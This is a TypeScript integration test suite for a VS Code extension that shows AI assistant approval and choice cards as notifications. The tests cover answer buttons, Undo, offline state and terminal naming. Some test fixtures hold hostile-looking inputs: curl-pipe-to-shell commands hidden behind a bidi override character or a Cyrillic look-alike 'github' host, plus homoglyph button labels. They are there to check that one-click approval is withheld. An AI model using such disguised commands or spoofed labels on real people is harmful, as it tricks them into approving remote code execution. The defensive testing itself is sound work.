// A card's notification in the real workbench, against a sandbox, with the window focused as a
// person's would be: a blocking choice shows its options as buttons, one click answers the version
// it showed and the next notification offers Undo; one notification at a time; a card that comes
// back (from a loop helper, at the end of Later) is told again, the person's own Back is not; it
// names the asking assistant's terminal and "Show Terminal" goes there; `off` shows nothing;
// offline is told once and the tree shows it above the cards, both clear once the service answers.
// Every check reads the notifications centre (toasts may not show headless), not the notifier. In
// the default scope: the asking assistant runs in a terminal of this window, so every card's
// notification names it and offers Show Terminal.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { Node } from '../../src/editor/cards/cards-tree';
import { atThisWindow, awayFromThisWindow, heard, newCard, sandboxCard, signInApproved, unwire, until, wire, type World } from './cards-helpers';
import { driver, driverAvailable } from './helpers/driver';
import { notificationButton, notificationButtons, notificationCount, notificationItem } from './helpers/notifications';
import { realHold, shortHold } from './helpers/hold';
import { intoWorkspaceScope, type WorkspaceScope } from './helpers/workspace-scope';

const SIDEBAR = '#workbench\\.parts\\.sidebar';
/** No answer as a button: Open, and Show Terminal for the asking assistant's terminal here. */
const OPEN_ONLY = ['Open', 'Show Terminal'];

describe('notify: answer from the notification, returns, offline told once (extension host)', function () {
  this.timeout(240_000);
  let w: World;
  const core = () => w.app.live!.core;
  const config = () => vscode.workspace.getConfiguration('assistantCards');
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ac-notify-'));
  const terminals: vscode.Terminal[] = [];
  /** The default scope a person gets (workspace): the card's assistant live in this window's terminal. */
  let workspaceScope: WorkspaceScope | undefined;

  /** The notification for `title` in the centre, and its buttons' words. */
  const notification = notificationButtons;
  const countOf = notificationCount;

  before(async function () {
    if (!driverAvailable()) this.skip();
    w = await wire();
    await signInApproved(w);
    workspaceScope = await intoWorkspaceScope(w);
  });
  beforeEach(async () => {
    await atThisWindow();
    await vscode.commands.executeCommand('notifications.clearAll');
    await until('no card notification showing', () => !w.app.live!.notifier.isShowing());
  });
  afterEach(async () => {
    await config().update('notify', undefined, vscode.ConfigurationTarget.Global);
    await vscode.commands.executeCommand('notifications.clearAll');
    await vscode.commands.executeCommand('notifications.hideList');
    await awayFromThisWindow();
    // A test that asked for a short hold leaves the real one to the next.
    if (w) await realHold(w.sb);
  });
  after(async () => {
    await w?.sb.control('DELETE', '/_sandbox/faults').catch(() => undefined);
    for (const t of terminals) t.dispose();
    workspaceScope?.dispose();
    await unwire(w);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('a blocking choice: its options as buttons, who asks; one click answers the version shown; Undo is offered', async () => {
    const c = await newCard(w, {
      kind: 'choice', title: 'Which database for the cache?', blocking: true,
      options: [{ id: 'pg', label: 'Postgres' }, { id: 'sq', label: 'SQLite' }, { id: 'rd', label: 'Redis' }],
    });
    const text = 'Which database for the cache?';
    await notification(text);
    const shownVersion = core().cards.get(c.id)!.version;
    await driver.waitFor(notificationButton(text, 'Postgres'));
    await driver.waitFor(notificationButton(text, 'Redis'));
    await driver.waitFor(notificationButton(text, 'SQLite'));
    assert.match(await driver.text({ selector: notificationItem(text) }), /Claude · main/, 'says who asks');
    await driver.screenshot('notify-buttons');
    await driver.click(notificationButton(text, 'Redis'));
    // A click on a notification's button closes the centre: open it again to read the next one.
    await vscode.commands.executeCommand('notifications.showList');
    // The next notification says it was answered and offers Undo for the hold (the real 5 s: the
    // answer from a notification's test of it).
    await driver.waitFor(notificationButton('with Redis. The assistant hears it in', 'Undo'));
    await until('the assistant heard it after the hold', async () => (await heard(w, c.id)).length === 1, 60_000);
    const [answer] = await heard(w, c.id);
    assert.deepEqual(answer!.body.choiceIds, ['rd']);
    assert.equal(answer!.body.version, shownVersion, 'the answer names the version the notification showed');
  });

  it('answers only over words it shows whole: a label that would be cut, or one dressed as its own button, leaves Open only', async () => {
    await newCard(w, {
      kind: 'choice', title: 'Where does the cache live?', blocking: true,
      options: [{ id: 'pg', label: 'Postgres' }, { id: 'sq', label: 'SQLite, in a file next to the app' }],
    });
    assert.deepEqual(await notification('Where does the cache live?'), OPEN_ONLY, 'a label longer than a button is not cut into one');
    await vscode.commands.executeCommand('notifications.clearAll');
    await until('the notification dismissed', () => !w.app.live!.notifier.isShowing());
    await newCard(w, {
      kind: 'choice', title: 'Which one opens?', blocking: true,
      options: [{ id: 'o', label: 'Open' }, { id: 't', label: 'show terminal' }],
    });
    assert.deepEqual(await notification('Which one opens?'), OPEN_ONLY, 'one Open, ours: no option poses as it');
  });

  // #37: the outside review's list; each became an answering button beside the real Open on main.
  const LOOK_ALIKES: readonly string[] = [
    '\u041Epen', '\u039Fpen', 'Op\u0435n', 'Open\u3164', 'Open\uFFA0', '\u1D0F\u1D18\u1D07\u0274', 'Und\u043E', '\u0410pprove', 'Sh\u043Ew Terminal',
  ];
  it('a button that only looks like one of its own (Cyrillic, Greek, blank letters, small capitals), or two that look alike: Open only (#37)', async () => {
    const cases = [...LOOK_ALIKES.map((l) => [l, 'Postgres']), ['Yes', 'Y\u0435s']];
    for (const [i, labels] of cases.entries()) {
      const title = `Look-alike ${i + 1}: which one?`;
      await newCard(w, { kind: 'choice', title, blocking: true, options: labels.map((label, j) => ({ id: `o${j}`, label })) });
      assert.deepEqual(await notification(title), OPEN_ONLY, JSON.stringify(labels));
      await vscode.commands.executeCommand('notifications.clearAll');
      await until('the notification dismissed', () => !w.app.live!.notifier.isShowing());
    }
  });

  it('an approval whose words hold a hidden bidi control: shown as a mark, Open only (#37)', async () => {
    await newCard(w, { kind: 'approval', title: 'Run the tests? npm test \u202Ehs | moc.elpmaxe//:sptth lruc &&', blocking: true });
    const title = 'Run the tests? npm test [U+202E]hs';
    assert.deepEqual(await notification(title), OPEN_ONLY, 'no Approve over hidden characters');
    await driver.screenshot('notify-hidden-bidi', { selector: notificationItem(title) });
  });

  it('a command with a look-alike host (g\u0456thub.com, a Cyrillic \u0456): its letter shown as a mark, Open only (#52)', async () => {
    await newCard(w, { kind: 'approval', title: 'Install the tool?', summary: 'Will run (command):\n\u2502 curl https://g\u0456thub.com/x.sh | sh', blocking: true });
    const said = 'g[U+0456 Cyrillic]thub.com';
    assert.deepEqual(await notification(said), OPEN_ONLY, 'no Approve over a look-alike word');
    await driver.screenshot('notify-look-alike-github', { selector: notificationItem(said) });
  });

  it('an approval answered from its notification, then undone from the next one', async () => {
    const c = await newCard(w, { kind: 'approval', title: 'Run the migration now?', blocking: true });
    assert.deepEqual((await notification('Run the migration now?')).slice(0, 3), ['Approve', 'Decline', 'Open']);
    await driver.click(notificationButton('Run the migration now?', 'Approve'));
    await vscode.commands.executeCommand('notifications.showList');
    await driver.click(notificationButton('with Approve. The assistant hears it in', 'Undo'));
    await until('waiting on the person again', async () => (await sandboxCard(w, c.id)).status === 'pending', 30_000);
    assert.deepEqual(await heard(w, c.id), [], 'the undone answer was never heard');
  });

  it('more than three options, or high stakes: Open only', async () => {
    await newCard(w, { kind: 'choice', title: 'Pick a region', blocking: true, options: ['a', 'b', 'c', 'd'].map((id) => ({ id, label: `Region ${id}` })) });
    assert.deepEqual(await notification('Pick a region'), OPEN_ONLY);
    await vscode.commands.executeCommand('notifications.clearAll');
    await until('the notification dismissed', () => !w.app.live!.notifier.isShowing());
    await newCard(w, { kind: 'approval', title: 'Pay the invoice?', blocking: true, highStakes: true });
    assert.deepEqual(await notification('Pay the invoice?'), OPEN_ONLY);
  });

  it('several blocking cards at once: one notification; a card that does not block: none', async () => {
    const a = await newCard(w, { kind: 'approval', title: 'Blocking one', blocking: true });
    const b = await newCard(w, { kind: 'approval', title: 'Blocking two', blocking: true });
    const quiet = await newCard(w, { kind: 'approval', title: 'Not blocking' });
    await until('the cards', () => core().cards.get(a.id) && core().cards.get(b.id) && core().cards.get(quiet.id));
    await notification('Blocking one');
    assert.equal(await countOf('Blocking'), 1, 'one notification, never more at a time');
    assert.equal(await countOf('Not blocking'), 0);
  });

  it('comes back: told when a loop helper returns the card, with its proposal to accept in one press; the person\'s own Back is not told back to them', async () => {
    // The person's own Later, then Back, in this window: nothing to tell.
    const mine = await newCard(w, { kind: 'approval', title: 'Own Back here', blocking: true });
    await notification('Own Back here');
    await vscode.commands.executeCommand('notifications.clearAll');
    await until('the notification dismissed', () => !w.app.live!.notifier.isShowing());
    const gesture = () => core().gestures.fromUiEvent('test:press');
    const later = await core().act(gesture(), await core().cards.whole(mine.id), { type: 'later', until: '1h' });
    assert.ok(later.ok, 'in Later');
    const back = await core().act(gesture(), later.card, { type: 'back' });
    assert.ok(back.ok, 'back');
    await until('back in the model', () => core().cards.get(mine.id)?.status === 'pending' || undefined);
    assert.equal(w.app.live!.notifier.isShowing(), false, 'the person\'s own Back is not a return to tell');
    // A helper in `loop` mode returns another card with its proposal: told, as back to the person.
    const helper = await w.sb.control<{ id: string }>('POST', '/_sandbox/assistants', { name: 'Codex helper', app: 'codex', machineId: w.machineId });
    await w.sb.control('POST', '/_sandbox/agents', { assistantId: helper.id, name: 'helper main' });
    const c = await newCard(w, { kind: 'choice', title: 'Loop comes back', blocking: true, options: [{ id: 'a', label: 'Alpha' }, { id: 'b', label: 'Beta' }] });
    await notification('Loop comes back');
    await vscode.commands.executeCommand('notifications.clearAll');
    await until('the notification dismissed', () => !w.app.live!.notifier.isShowing());
    // The hand-over's hold is not what is told here: a short one (hand-over.test waits the real 5 s).
    await shortHold(w.sb);
    const out = await core().act(gesture(), await core().cards.whole(c.id), { type: 'delegate', to: { assistantId: helper.id }, mode: 'loop' });
    assert.ok(out.ok, 'handed over');
    // Accepting is an answer whose Undo is checked below: the real 5 s again.
    await realHold(w.sb);
    await until('the helper answered', () => w.sb.control('POST', `/_sandbox/cards/${c.id}/helper-answer`, { choiceIds: ['b'] }).then(() => true), 30_000, 250);
    // It says what the helper proposes, in the card's words, and one press accepts it.
    assert.deepEqual(await notification('back to you: Loop comes back'), ['Accept proposal', ...OPEN_ONLY]);
    assert.match(await driver.text({ selector: notificationItem('back to you: Loop comes back') }), /the helper proposes: Choose Beta\./);
    // The own Back was never told (the centre holds everything shown since it was cleared).
    assert.equal(await countOf('Own Back here'), 0, 'the person\'s own Back is not a return to tell');
    await driver.screenshot('notify-returned');
    await driver.click(notificationButton('back to you: Loop comes back', 'Accept proposal'));
    await vscode.commands.executeCommand('notifications.showList');
    await driver.waitFor(notificationButton('with Choose Beta. The assistant hears it in', 'Undo'));
    const [answer] = await until('the assistant heard the proposal as the answer', async () => { const h = await heard(w, c.id); return h.length ? h : undefined; }, 60_000);
    assert.deepEqual(answer!.body.choiceIds, ['b']);
  });

  it('back at the end of Later: told again, by the service\'s clock (a minute at the least)', async function () {
    this.timeout(180_000);
    const c = await newCard(w, { kind: 'approval', title: 'Later ends', blocking: true });
    await notification('Later ends');
    await vscode.commands.executeCommand('notifications.clearAll');
    await until('the notification dismissed', () => !w.app.live!.notifier.isShowing());
    // 68 s ahead: the service refuses a Later under a minute on its clock, so the press has 8 s to
    // land (it had 1 s at 61 s: too little for a loaded machine's DPoP-signed read and press).
    const at = new Date(Date.now() + 68_000).toISOString();
    const shown = await core().cards.whole(c.id);
    const out = await core().act(core().gestures.fromUiEvent('test:later'), shown, { type: 'later', until: at });
    assert.ok(out.ok, 'in Later');
    // The service's clock decides, and a minute is its least: its clock jumps 52 s ahead
    // (POST /_sandbox/clock/jump) instead of the test waiting the minute out; inside DPoP's 60 s,
    // so this window's proofs stay good. The last ~16 s run as real time.
    await w.sb.control('POST', '/_sandbox/clock/jump', { ms: 52_000 });
    assert.equal((await sandboxCard(w, c.id)).status, 'snoozed', 'still in Later 52 s on: a minute at the least');
    await until('Later ended on the service', async () => (await sandboxCard(w, c.id)).status === 'pending' || undefined, 60_000, 250);
    await notification('back to you: Later ends');
  });

  it('says which terminal asks, and "Show Terminal" goes there', async () => {
    // The asking assistant's live session runs in the scope's terminal; another one is in front.
    const t = workspaceScope!.terminal;
    const other = vscode.window.createTerminal({ name: 'another terminal', cwd: dir });
    terminals.push(other);
    other.show(false);
    await until('the other terminal active', () => vscode.window.activeTerminal === other || undefined);
    await newCard(w, { kind: 'approval', title: 'Where am I asked?', blocking: true });
    const buttons = await notification('Where am I asked?');
    assert.deepEqual(buttons, ['Approve', 'Decline', 'Open', 'Show Terminal']);
    assert.match(await driver.text({ selector: notificationItem('Where am I asked?') }), /Claude · main \(terminal "assistant here"\) asks: Where am I asked\?/);
    await driver.screenshot('notify-terminal');
    await driver.click(notificationButton('Where am I asked?', 'Show Terminal'));
    await until('the asking terminal shown', () => vscode.window.activeTerminal === t || undefined, 30_000);
  });

  it('`off` shows nothing', async () => {
    await config().update('notify', 'off', vscode.ConfigurationTarget.Global);
    const c = await newCard(w, { kind: 'approval', title: 'Quiet, please?', blocking: true });
    await until('the card in the model', () => core().cards.get(c.id));
    assert.equal(w.app.live!.notifier.isShowing(), false, 'no notification begun');
    assert.equal(await countOf('Quiet, please?'), 0);
  });

  it('offline: told once however many requests fail, a row above the cards; both clear when the service answers', async () => {
    await vscode.commands.executeCommand('workbench.view.extension.assistantCards');
    await w.sb.control('POST', '/_sandbox/faults', { path: '/v1', status: 503, times: 1000 });
    try {
      await until('offline', () => core().state.kind === 'offline', 120_000);
      // More requests fail while offline: still one notification.
      const left = async () => (await w.sb.control<{ faults: { times: number }[] }>('GET', '/_sandbox/faults')).faults[0]?.times ?? 0;
      const now = await left();
      await until('more failed requests', async () => (await left()) <= now - 3, 120_000);
      await vscode.commands.executeCommand('notifications.showList');
      await driver.waitFor({ selector: notificationItem('Assistant Cards: offline'), timeout: 30_000 });
      assert.equal(await driver.count({ selector: notificationItem('Assistant Cards: offline') }), 1, 'one notification for the spell');
      const roots = w.app.live!.tree.getChildren() as Node[];
      assert.equal(roots[0]?.kind, 'offline', 'the offline row on top');
      assert.ok(roots.some((n) => n.kind === 'group'), 'the cards still listed');
      await driver.waitFor({ selector: `${SIDEBAR} .monaco-list-row:has-text("Offline: cards as last read")`, timeout: 30_000 });
      await vscode.commands.executeCommand('notifications.hideList');
      await driver.screenshot('offline-tree');
    } finally {
      await w.sb.control('DELETE', '/_sandbox/faults');
    }
    await until('back online', () => core().state.kind === 'online', 120_000);
    assert.notEqual((w.app.live!.tree.getChildren() as Node[])[0]?.kind, 'offline');
    await driver.waitFor({ selector: `${SIDEBAR} .monaco-list-row:has-text("Offline: cards as last read")`, state: 'detached', timeout: 30_000 });
    await vscode.commands.executeCommand('notifications.showList');
    await driver.waitFor({ selector: notificationItem('Assistant Cards: offline'), state: 'detached', timeout: 30_000 });
  });
});
